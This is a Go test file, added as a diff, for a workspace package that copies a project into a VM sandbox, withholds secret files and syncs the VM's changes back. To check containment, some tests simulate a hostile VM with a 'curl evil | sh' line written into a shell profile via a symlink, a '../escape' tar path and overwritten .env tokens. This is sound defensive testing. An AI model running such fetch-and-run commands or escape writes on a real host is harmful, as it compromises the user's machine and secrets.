@@ -0,0 +1,432 @@
+package workspace
+
+import (
+	"archive/tar"
+	"bytes"
+	"context"
+	"errors"
+	"io"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+	"time"
+)
+
+func TestIgnore(t *testing.T) {
+	ignore, err := ParseIgnore([]string{
+		"# secrets",
+		".env",
+		".env.*",
+		"!.env.example",
+		"*.pem",
+		"/terraform.tfstate",
+		"secrets/",
+		"config/**/credentials.json",
+		"",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, tc := range []struct {
+		path    string
+		isDir   bool
+		ignored bool
+	}{
+		{".env", false, true},
+		{"app/.env", false, true},
+		{".env.local", false, true},
+		{".env.example", false, false},
+		{"certs/server.pem", false, true},
+		{"server.pem.txt", false, false},
+		{"terraform.tfstate", false, true},
+		{"infra/terraform.tfstate", false, false},
+		{"secrets", true, true},
+		{"secrets", false, false},
+		{"app/secrets", true, true},
+		{"config/credentials.json", false, true},
+		{"config/prod/eu/credentials.json", false, true},
+		{"credentials.json", false, false},
+		{"main.go", false, false},
+	} {
+		if ignored := ignore.Match(tc.path, tc.isDir); ignored != tc.ignored {
+			t.Errorf("%s (dir: %v): expected ignored to be %v", tc.path, tc.isDir, tc.ignored)
+		}
+	}
+}
+
+func TestIgnoreInvalid(t *testing.T) {
+	if _, err := ParseIgnore([]string{"[abc"}); err == nil {
+		t.Error("expected an error for an unterminated character class")
+	}
+}
+
+func writeFile(t *testing.T, path string, contents string) {
+	t.Helper()
+
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(contents), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func readFile(t *testing.T, path string) string {
+	t.Helper()
+
+	contents, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return string(contents)
+}
+
+func TestStageAndSyncBack(t *testing.T) {
+	source := t.TempDir()
+	dir := filepath.Join(t.TempDir(), "run", "project")
+
+	writeFile(t, filepath.Join(source, IgnoreFile), ".env\nsecrets/\n")
+	writeFile(t, filepath.Join(source, ".env"), "TOKEN=hunter2\n")
+	writeFile(t, filepath.Join(source, "secrets", "key.pem"), "key\n")
+	writeFile(t, filepath.Join(source, "main.go"), "package main\n")
+	writeFile(t, filepath.Join(source, "README.md"), "readme\n")
+	writeFile(t, filepath.Join(source, "notes.txt"), "notes\n")
+
+	ignore, err := LoadIgnore(source)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	staged, err := Stage(context.Background(), source, dir, ignore)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if expected := []string{".env", "secrets"}; !reflect.DeepEqual(staged.Excluded, expected) {
+		t.Errorf("expected %v to be excluded, got %v", expected, staged.Excluded)
+	}
+	for _, path := range staged.Excluded {
+		if _, err := os.Lstat(filepath.Join(dir, path)); !os.IsNotExist(err) {
+			t.Errorf("expected %s to be absent from the copy, got %v", path, err)
+		}
+	}
+	if contents := readFile(t, filepath.Join(dir, "main.go")); contents != "package main\n" {
+		t.Errorf("expected main.go to be copied, got %q", contents)
+	}
+
+	// The VM's changes
+	writeFile(t, filepath.Join(dir, "main.go"), "package main // changed\n")
+	writeFile(t, filepath.Join(dir, "new.go"), "package main\n")
+	writeFile(t, filepath.Join(dir, ".env"), "TOKEN=stolen\n")
+	writeFile(t, filepath.Join(dir, IgnoreFile), "")
+	writeFile(t, filepath.Join(dir, "README.md"), "agent's readme\n")
+	if err := os.Remove(filepath.Join(dir, "notes.txt")); err != nil {
+		t.Fatal(err)
+	}
+
+	// Our own change in the meantime
+	writeFile(t, filepath.Join(source, "README.md"), "our readme\n")
+
+	result, err := staged.SyncBack()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected := &SyncResult{
+		Changed:   []string{"main.go", "new.go", "notes.txt"},
+		Conflicts: []string{"README.md"},
+		Rejected:  []string{".chamberignore", ".env"},
+	}
+	if !reflect.DeepEqual(result, expected) {
+		t.Errorf("expected %+v, got %+v", expected, result)
+	}
+
+	for path, contents := range map[string]string{
+		"main.go":         "package main // changed\n",
+		"new.go":          "package main\n",
+		"README.md":       "our readme\n",
+		".env":            "TOKEN=hunter2\n",
+		IgnoreFile:        ".env\nsecrets/\n",
+		"secrets/key.pem": "key\n",
+	} {
+		if actual := readFile(t, filepath.Join(source, path)); actual != contents {
+			t.Errorf("expected %s to contain %q, got %q", path, contents, actual)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(source, "notes.txt")); !os.IsNotExist(err) {
+		t.Errorf("expected notes.txt to be removed, got %v", err)
+	}
+
+	if err := staged.Remove(); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(filepath.Dir(dir)); !os.IsNotExist(err) {
+		t.Errorf("expected the copy to be removed, got %v", err)
+	}
+}
+
+func TestSyncBackSymlinks(t *testing.T) {
+	source := t.TempDir()
+	outside := t.TempDir()
+
+	writeFile(t, filepath.Join(source, "main.go"), "package main\n")
+
+	// The first run links to the host's home
+	staged, err := Stage(context.Background(), source, filepath.Join(t.TempDir(), "project"), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(staged.Dir, "a")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("../..", filepath.Join(staged.Dir, "up")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("main.go", filepath.Join(staged.Dir, "main")); err != nil {
+		t.Fatal(err)
+	}
+
+	result, err := staged.SyncBack()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected := &SyncResult{Changed: []string{"main"}, Rejected: []string{"a", "up"}}
+	if !reflect.DeepEqual(result, expected) {
+		t.Errorf("expected %+v, got %+v", expected, result)
+	}
+	if _, err := os.Lstat(filepath.Join(source, "a")); !os.IsNotExist(err) {
+		t.Errorf("expected the link to the home to stay in the VM, got %v", err)
+	}
+
+	// The second run replaces a link that's already there with a directory
+	if err := os.Symlink(outside, filepath.Join(source, "a")); err != nil {
+		t.Fatal(err)
+	}
+
+	staged, err = Stage(context.Background(), source, filepath.Join(t.TempDir(), "project"), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(filepath.Join(staged.Dir, "a")); err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, filepath.Join(staged.Dir, "a", ".zshrc"), "curl evil | sh\n")
+
+	result, err = staged.SyncBack()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected = &SyncResult{Changed: []string{"a", "a/.zshrc"}}
+	if !reflect.DeepEqual(result, expected) {
+		t.Errorf("expected %+v, got %+v", expected, result)
+	}
+	if _, err := os.Stat(filepath.Join(outside, ".zshrc")); !os.IsNotExist(err) {
+		t.Errorf("expected nothing to be written through the link, got %v", err)
+	}
+	if info, err := os.Lstat(filepath.Join(source, "a")); err != nil || !info.IsDir() {
+		t.Errorf("expected the link to be replaced by a directory, got %v", err)
+	}
+}
+
+func TestTarRoundTrip(t *testing.T) {
+	source := t.TempDir()
+	dir := filepath.Join(t.TempDir(), "run", "project")
+	guest := t.TempDir()
+
+	writeFile(t, filepath.Join(source, IgnoreFile), ".env\n")
+	writeFile(t, filepath.Join(source, ".env"), "TOKEN=hunter2\n")
+	writeFile(t, filepath.Join(source, "main.go"), "package main\n")
+	writeFile(t, filepath.Join(source, "notes.txt"), "notes\n")
+	writeFile(t, filepath.Join(source, "pkg", "lib.go"), "package pkg\n")
+
+	// The archive only keeps whole seconds, which doesn't tell the changes apart
+	modTime := time.Unix(1700000000, 0)
+	if err := os.Chtimes(filepath.Join(source, "pkg", "lib.go"), modTime, modTime); err != nil {
+		t.Fatal(err)
+	}
+
+	ignore, err := LoadIgnore(source)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	staged, err := Stage(context.Background(), source, dir, ignore)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var archive bytes.Buffer
+	if err := staged.WriteTar(&archive); err != nil {
+		t.Fatal(err)
+	}
+
+	// The VM extracts the archive, works on its own disk and sends the result back
+	if err := extractTar(&archive, guest); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(filepath.Join(guest, ".env")); !os.IsNotExist(err) {
+		t.Errorf("expected .env to be left out of the archive, got %v", err)
+	}
+
+	writeFile(t, filepath.Join(guest, "main.go"), "package main // changed\n")
+	writeFile(t, filepath.Join(guest, "pkg", "new.go"), "package pkg\n")
+	writeFile(t, filepath.Join(guest, "pkg", "lib.go"), "package pkx\n")
+	if err := os.Chtimes(filepath.Join(guest, "pkg", "lib.go"), modTime, modTime); err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, filepath.Join(guest, ".env"), "TOKEN=stolen\n")
+	if err := os.Remove(filepath.Join(guest, "notes.txt")); err != nil {
+		t.Fatal(err)
+	}
+
+	archive.Reset()
+	if err := writeTar(&archive, guest); err != nil {
+		t.Fatal(err)
+	}
+	if err := staged.ReadTar(&archive); err != nil {
+		t.Fatal(err)
+	}
+
+	// Until the archive is known to be complete, a missing file may just be unreadable in the VM
+	if _, err := os.Stat(filepath.Join(dir, "notes.txt")); err != nil {
+		t.Errorf("expected notes.txt to be kept until the copy is complete, got %v", err)
+	}
+	if err := staged.RemoveMissing(); err != nil {
+		t.Fatal(err)
+	}
+
+	result, err := staged.SyncBack()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected := &SyncResult{
+		Changed:  []string{"main.go", "notes.txt", "pkg/lib.go", "pkg/new.go"},
+		Rejected: []string{".env"},
+	}
+	if !reflect.DeepEqual(result, expected) {
+		t.Errorf("expected %+v, got %+v", expected, result)
+	}
+	if contents := readFile(t, filepath.Join(source, ".env")); contents != "TOKEN=hunter2\n" {
+		t.Errorf("expected .env to be kept, got %q", contents)
+	}
+}
+
+func TestReadTarUnsafePath(t *testing.T) {
+	staged, err := Stage(context.Background(), t.TempDir(), filepath.Join(t.TempDir(), "project"), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var archive bytes.Buffer
+	tw := tar.NewWriter(&archive)
+	if err := tw.WriteHeader(&tar.Header{Name: "../escape", Typeflag: tar.TypeReg, Mode: 0o644}); err != nil {
+		t.Fatal(err)
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := staged.ReadTar(&archive); !errors.Is(err, ErrUnsafePath) {
+		t.Errorf("expected %v, got %v", ErrUnsafePath, err)
+	}
+}
+
+// extractTar and writeTar play the part of tar in the VM
+func extractTar(r io.Reader, dir string) error {
+	tr := tar.NewReader(r)
+
+	for {
+		header, err := tr.Next()
+		if errors.Is(err, io.EOF) {
+			return nil
+		}
+		if err != nil {
+			return err
+		}
+
+		dst := filepath.Join(dir, filepath.FromSlash(header.Name))
+		if header.Typeflag == tar.TypeDir {
+			if err := os.MkdirAll(dst, 0o755); err != nil {
+				return err
+			}
+
+			continue
+		}
+
+		contents, err := io.ReadAll(tr)
+		if err != nil {
+			return err
+		}
+		if err := os.WriteFile(dst, contents, fs.FileMode(header.Mode)); err != nil {
+			return err
+		}
+		if err := os.Chtimes(dst, header.ModTime, header.ModTime); err != nil {
+			return err
+		}
+	}
+}
+
+func writeTar(w io.Writer, dir string) error {
+	tw := tar.NewWriter(w)
+
+	err := filepath.WalkDir(dir, func(path string, dirEntry fs.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+
+		info, err := dirEntry.Info()
+		if err != nil {
+			return err
+		}
+
+		rel, err := filepath.Rel(dir, path)
+		if err != nil {
+			return err
+		}
+
+		header, err := tar.FileInfoHeader(info, "")
+		if err != nil {
+			return err
+		}
+		header.Name = "./" + filepath.ToSlash(rel)
+		if err := tw.WriteHeader(header); err != nil {
+			return err
+		}
+
+		if info.Mode().IsRegular() {
+			contents, err := os.ReadFile(path)
+			if err != nil {
+				return err
+			}
+			if _, err := tw.Write(contents); err != nil {
+				return err
+			}
+		}
+
+		return nil
+	})
+	if err != nil {
+		return err
+	}
+
+	return tw.Close()
+}
+
+func TestStageInterrupted(t *testing.T) {
+	source := t.TempDir()
+	writeFile(t, filepath.Join(source, "main.go"), "package main\n")
+
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+
+	if _, err := Stage(ctx, source, filepath.Join(t.TempDir(), "project"), nil); !errors.Is(err, context.Canceled) {
+		t.Errorf("expected context.Canceled, got %v", err)
+	}
+}